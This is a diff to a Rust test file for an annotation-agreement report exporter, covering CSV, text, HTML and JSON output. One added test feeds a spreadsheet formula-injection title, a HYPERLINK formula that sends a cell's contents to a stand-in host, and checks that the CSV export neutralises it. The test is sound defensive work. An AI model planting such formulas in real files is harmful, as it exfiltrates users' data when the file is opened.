@@ -7,18 +7,23 @@ use crate::model::*;
 
 /// Two people mark the same sentence: both the first claim, each another second one.
 fn report() -> Report {
+    report_of("Dam, \"holding\"", "Ben")
+}
+
+/// The same with this title, and this name of the second.
+fn report_of(title: &str, second: &str) -> Report {
     let mut stamp = Stamp::of_number(1);
     let mut project = Project::begin(Scheme::claims_and_denials(), "Ada <b>", &mut stamp);
     let one = *project.sets()[0].0;
     let text = Text::new("The dam holds.\nNobody \"knows\" why.\n");
-    let details = Details { title: "Dam, \"holding\"".to_owned(), ..Details::default() };
+    let details = Details { title: title.to_owned(), ..Details::default() };
     let blocks = Block::guess(&text);
     let (step, article) = actions::add_article(&project, details, text.clone(), blocks, "", &mut stamp).unwrap();
     project.apply(&step.transaction).unwrap();
     let (revision, _) = project.latest(article).unwrap();
     let mut builder = edit::Builder::new(&project);
     let (annotator, other) = (AnnotatorId(stamp.fresh()), SetId(stamp.fresh()));
-    builder.put(annotator, Some(Annotator { rank: 1, name: "Ben".to_owned() }));
+    builder.put(annotator, Some(Annotator { rank: 1, name: second.to_owned() }));
     let (kind, begun) = (SetKind::Own, stamp.time);
     builder.put(
         other,
@@ -86,4 +91,85 @@ fn people_read_the_same_numbers() {
     assert!(page.contains("Ada &lt;b&gt;") && !page.contains("Ada <b>"), "what is text stays text");
     assert!(page.contains("<td dir=\"auto\">0.5000</td>"), "{page}");
     assert!(!page.contains("<script") && !page.contains("src="));
+}
+
+#[test]
+fn csv_has_no_cell_that_a_spreadsheet_would_run() {
+    let title = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
+    let csv = csv(&report_of(title, "@Ben"));
+    let rows: Vec<_> = ::csv::Reader::from_reader(csv.as_bytes()).records().map(Result::unwrap).collect();
+    let texts: Vec<&str> = rows.iter().flat_map(|row| [row.get(1), row.get(3), row.get(4)]).flatten().collect();
+    assert!(texts.contains(&format!("'{title}").as_str()) && texts.contains(&"'@Ben"), "{csv}");
+    assert!(texts.iter().all(|text| !text.starts_with(['=', '+', '-', '@', '\t', '\r'])));
+    // A number below 0 stays one.
+    let below = rows.iter().filter(|row| row[5].starts_with('-')).count();
+    assert!(below > 0 && rows.iter().all(|row| !row[5].starts_with('\'')), "{csv}");
+}
+
+#[test]
+fn csv_says_how_its_values_came_about_and_what_is_missing() {
+    let mut report = report();
+    report.left_out.push(Omission {
+        why: "not done",
+        set: Some("Ben".to_owned()),
+        article: Some("Dike".to_owned()),
+        annotation: None,
+        told: String::new(),
+    });
+    let csv = csv(&report);
+    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
+    let head = reader.headers().unwrap().clone();
+    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
+    let of =
+        |row: &::csv::StringRecord, column: &str| row[head.iter().position(|name| name == column).unwrap()].to_owned();
+    let gamma = rows.iter().find(|row| &row[0] == "gamma" && &row[2] == "all").unwrap();
+    assert_eq!(["match", "seed"].map(|column| of(gamma, column)), ["exact", "1"]);
+    let sampled = report.sections.iter().find(|section| section.key == "gamma").unwrap().sampled.unwrap();
+    assert_eq!(of(gamma, "samples"), sampled.chance.samples.to_string());
+    assert_eq!(of(gamma, "expected"), sampled.chance.disorder.to_string());
+    assert_eq!(of(gamma, "observed"), sampled.observed.to_string());
+    let last = rows.last().unwrap();
+    assert_eq!((&last[2], &last[3], &last[4], &last[6]), ("left out", "Dike", "Ben", "not done"));
+}
+
+#[test]
+fn tables_fit_a_terminal_and_every_number_says_how_much_was_counted() {
+    let mut report = report_of(&"a title that goes on and on ".repeat(6), "Ben");
+    for section in &mut report.sections {
+        let twice = section.parts.clone();
+        section.parts.extend(twice.into_iter().filter(|part| part.sort == Sort::Article));
+    }
+    let text = text(&report);
+    let tables = text.split_once("\n\n").unwrap().1;
+    let notes = tables.split_once("\nNotes\n").unwrap();
+    assert!(notes.0.lines().all(|line| line.chars().count() <= 100), "{text}");
+    assert!(notes.1.contains("undefined: nobody marked any"), "reasons stand below");
+    assert!(!notes.0.contains("nobody marked"), "and not in the columns");
+    let by_label = notes.0.split_once("\nBy label\n").unwrap().1;
+    let claim = by_label.lines().find(|line| line.trim_start().starts_with("claim")).unwrap();
+    assert!(claim.contains("0.5000") && claim.ends_with("4 annotations"), "{claim}");
+    let article = by_label.split_once("\nBy article\n").unwrap().1;
+    assert!(article.lines().any(|line| line.contains("on and on") && line.ends_with("4 annotations")), "{article}");
+    let page = page(&report);
+    assert!(page.contains(">By label</h2>") && page.contains("[1] "), "{page}");
+}
+
+#[test]
+fn what_is_approximate_says_so_in_every_form() {
+    let mut report = report();
+    for section in report.sections.iter_mut().filter(|section| section.key == "gamma") {
+        section.approximate = true;
+        section.parts.iter_mut().filter(|part| part.sort == Sort::Pair).for_each(|part| part.approximate = true);
+        section.sampled.as_mut().unwrap().exact = false;
+    }
+    let text = text(&report);
+    let gamma = text.lines().find(|line| line.trim_start().starts_with("gamma ")).unwrap();
+    assert!(gamma.contains("≈ ") && text.contains("an alignment may not be the best one"), "{text}");
+    assert!(text.contains("some alignments may not be the best (≈)"), "{text}");
+    assert!(page(&report).contains("≈ "));
+    let csv = csv(&report);
+    assert_eq!(csv.lines().filter(|line| line.starts_with("gamma,") && line.contains(",yes,")).count(), 2, "{csv}");
+    let json: serde_json::Value = serde_json::from_str(&json(&report)).unwrap();
+    let found = json["measures"].as_array().unwrap().iter().find(|measure| measure["measure"] == "gamma").unwrap();
+    assert_eq!((&found["overall"]["approximate"], &found["articles"][0]["approximate"]), (&true.into(), &false.into()));
 }
